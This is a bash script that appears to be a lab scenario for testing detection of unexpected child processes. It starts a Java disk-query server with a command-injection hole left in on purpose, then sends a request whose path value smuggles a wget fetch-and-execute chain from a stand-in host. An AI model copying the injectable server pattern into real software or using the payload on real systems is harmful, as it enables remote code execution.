#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=unexpected-child half=report tool=java,dash,wget far=desk,out seconds=720 parts=dns,outside-web recorder=/usr/lib/jvm/java-17-openjdk-amd64/bin/java ticks=1000ms
# A recorder's server in Java looks for disks by a program of its own; eleven minutes after its start a question makes it run a shell, and that fetches a script with wget and starts it.
if [ "$1" = out ]; then mkdir -p "$LAB/outside/drop"; (echo '#!/bin/sh'; echo "echo ran >$LAB/ran"; head -c 20000 /dev/zero | tr '\0' '#') >"$LAB/outside/drop/update.sh"; exit 0; fi
if [ "$1" = desk ]; then
	for pause in 20 200 200; do sleep $pause; curl -s -o /dev/null --max-time 5 'http://10.30.0.2:8000/disks?path=/'; done
	sleep 260; curl -s -o /dev/null --max-time 15 "http://10.30.0.2:8000/disks?path=/%3Bwget+-q+-O+$LAB/.u+http://relay.example.net/drop/update.sh%3Bchmod+755+$LAB/.u%3B$LAB/.u"; exit 0
fi
mkdir -p "$LAB/vms"; cat >"$LAB/vms/Disks.java" <<'END'
import com.sun.net.httpserver.*;
import java.net.*;
public class Disks {
	public static void main(String[] args) throws Exception {
		HttpServer s = HttpServer.create(new InetSocketAddress("10.30.0.2", 8000), 5);
		s.createContext("/disks", q -> {
			String path = q.getRequestURI().getQuery().substring(5).replace('+', ' ');
			ProcessBuilder what = path.equals("/") ? new ProcessBuilder("df", path) : new ProcessBuilder("sh", "-c", "df " + path);
			byte[] said = what.redirectErrorStream(true).start().getInputStream().readAllBytes();
			q.sendResponseHeaders(200, said.length); q.getResponseBody().write(said); q.close();
		});
		s.start();
	}
}
END
timeout 715 java "$LAB/vms/Disks.java"; grep -q ran "$LAB/ran"
